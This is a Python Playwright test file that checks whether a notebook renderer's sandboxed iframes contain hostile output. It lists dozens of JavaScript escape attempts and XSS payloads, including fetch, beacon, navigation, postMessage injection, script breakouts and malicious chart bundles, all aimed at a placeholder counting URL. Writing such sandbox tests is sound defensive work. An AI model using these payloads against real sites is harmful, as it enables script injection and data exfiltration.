from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from autogen_nb.notebook.rendering.frames import Document, document, frame_html, library_html
from tests.canary import canary

# Each is tried by itself; `URL` is a server that counts what it is asked.
SCRIPTS = (
    "fetch('URL/fetch')",
    "fetch('URL/no-cors', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "const x = new XMLHttpRequest(); x.open('GET', 'URL/xhr'); x.send()",
    "navigator.sendBeacon('URL/beacon', 'x')",
    "new WebSocket('URL/socket'.replace('http', 'ws'))",
    "new EventSource('URL/events')",
    "new Image().src = 'URL/image'",
    "import('URL/module.js')",
    "new Worker(URL_.createObjectURL(new Blob(['fetch(`URL/worker`)'])))".replace("URL_", "window.URL"),
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'URL/css'}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'URL/prefetch'}))",
    "document.head.append(Object.assign(document.createElement('style'), {textContent: '@import \"URL/import\"'}))",
    "document.head.append(Object.assign(document.createElement('base'), {href: 'URL/'})); new Image().src = 'based'",
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=URL/refresh\">')",
    "location = 'URL/location'",
    "location = 'data:text/html,<script>fetch(`URL/data`)</' + 'script>'",
    "location = window.URL.createObjectURL(new Blob(['<img src=URL/blob>'], {type: 'text/html'}))",
    "parent.location = 'URL/parent'",
    "top.location = 'URL/top'",
    "for (let i = 0; i < top.length; i++) top[i].location = 'URL/sibling'",
    "window.open('URL/window')",
    "document.body.innerHTML = '<a href=\"URL/link\" target=\"_top\">x</a>'; document.querySelector('a').click()",
    "document.body.innerHTML = '<a href=\"URL/download\" download>x</a>'; document.querySelector('a').click()",
    "document.body.innerHTML = '<form action=\"URL/form\"><input name=a></form>'; document.forms[0].submit()",
    "document.body.innerHTML = '<iframe src=\"URL/frame\"></iframe>'",
    "document.body.innerHTML = '<iframe srcdoc=\"<img src=URL/srcdoc>\"></iframe>'",
    'document.body.innerHTML = \'<object data="URL/object"></object><embed src="URL/embed">\'',
    'document.body.innerHTML = \'<video src="URL/video"></video><audio src="URL/audio"></audio>\'',
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('URL/blank')",
    "top.postMessage({libraries: ['<img src=URL/x onerror=hit()>'], height: 1e9, theme: 'dark'}, '*')",
    "parent.postMessage({height: '9px;background:url(URL/height)'}, '*')",
    "parent.postMessage({libraries: ['H4sI'], theme: '\"><img src=URL/theme>'}, '*')",
    "for (let i = 0; i < top.length; i++) top[i].postMessage({libraries: ['eA=='], theme: 'dark'}, '*')",
    "top.hit()",
    "parent.document.body.innerHTML = '<img src=URL/body>'",
    "top.document.title = 'caught'",
    "document.cookie = 'a=b'; localStorage.a = 'b'",
    "alert('caught')",
    "print()",
)
BUNDLES: dict[str, dict[str, Any]] = {
    "vega loader": {
        "application/vnd.vegalite.v6+json": {
            "data": {"url": "URL/data.csv"},
            "mark": "point",
            "usermeta": {"embedOptions": {"loader": {}}},
        }
    },
    "vega expression": {
        "application/vnd.vega.v6+json": {
            "signals": [{"name": "a", "update": "warn(now.constructor.constructor('top.hit()')())"}],
            "marks": [
                {"type": "image", "encode": {"enter": {"url": {"value": "URL/mark"}, "href": {"value": "URL/href"}}}}
            ],
        }
    },
    "plotly image and text": {
        "application/vnd.plotly.v1+json": {
            "data": [{"y": [1], "text": ["<a href='URL/text'>a</a><img src='URL/img'>"], "mode": "text"}],
            "layout": {
                "images": [{"source": "URL/layout", "xref": "paper", "yref": "paper", "sizex": 1, "sizey": 1}],
                "title": {"text": "</script><img src=URL/title onerror=top.hit()>"},
            },
        }
    },
    "bokeh callback": {
        "application/javascript": "fetch('URL/bokeh')</script><img src=URL/after>",
        "application/vnd.bokehjs_exec.v0+json": "",
    },
    "a frame within": {
        "text/html": '<iframe srcdoc="&lt;script&gt;top.hit(); fetch(`URL/within`)&lt;/script&gt;"></iframe>'
    },
    "quotes": {"text/html": '<script>"></script>\'"></iframe><img src=URL/quotes onerror=top.hit()>'},
}


def _page(browser: Browser, caught: list[str]) -> Page:
    page = browser.new_page()
    page.on("dialog", lambda dialog: caught.append(f"dialog {dialog.message}"))
    page.on("popup", lambda popup: caught.append("window"))
    page.on("download", lambda download: caught.append("download"))
    page.expose_function("hit", lambda: caught.append("script"))
    page.set_content("<!doctype html><title>page</title><main></main>")
    return page


def _show(page: Page, document: Document) -> None:
    """Shows the page in its frame, above a frame that tells when it is drawn."""
    last = frame_html(Document("<p>drawn</p>"))
    libraries = "".join(map(library_html, document.libraries))
    page.evaluate(
        """html => {
            const main = document.querySelector("main");
            main.innerHTML = html;
            for (const old of main.querySelectorAll("script")) {
                const script = document.createElement("script");
                for (const {name, value} of old.attributes) script.setAttribute(name, value);
                script.textContent = old.textContent;
                old.replaceWith(script);
            }
        }""",
        libraries + frame_html(document) + last,
    )
    frame = page.locator("iframe[data-autogen-nb]")
    expect(frame.last.content_frame.frame_locator("iframe").locator("p")).to_have_text("drawn")
    # What the first frame began has had the time of a second round through both frames.
    page.evaluate("() => new Promise(resolve => setTimeout(() => requestIdleCallback(resolve), 150))")


def _documents(url: str) -> Iterator[tuple[str, Document]]:
    for script in SCRIPTS:
        yield script, Document(f"<script>addEventListener('load', () => {{ {script.replace('URL', url)} }})</script>")
    for name, bundle in BUNDLES.items():
        text = repr(bundle).replace("URL", url)
        page = document(eval(text))
        assert page is not None
        yield name, page


def test_nothing_leaves_a_frame(browser: Browser) -> None:
    caught: list[str] = []
    escaped: dict[str, list[str]] = {}
    with canary() as (url, paths):
        page = _page(browser, caught)
        for name, shown in _documents(url):
            _show(page, shown)
            if page.title() != "page" or page.url != "about:blank":
                caught.append(f"now at {page.url}")
            heights = page.locator("iframe[data-autogen-nb]").evaluate_all("all => all.map(each => each.offsetHeight)")
            if max(heights) > 4000:
                caught.append(f"height {heights}")
            if paths or caught:
                escaped[name] = [*paths, *caught]
                paths.clear()
                caught.clear()
        page.close()

    assert escaped == {}


@pytest.mark.parametrize("script", ["new Image().src = 'URL/image'", "top.hit()", "location = 'URL/location'"])
def test_the_trap_works_without_frames(browser: Browser, script: str) -> None:
    caught: list[str] = []
    with canary() as (url, paths):
        page = _page(browser, caught)
        page.evaluate(f"() => {{ {script.replace('URL', url)} }}")
        page.wait_for_timeout(300)
        page.close()

    assert paths or caught
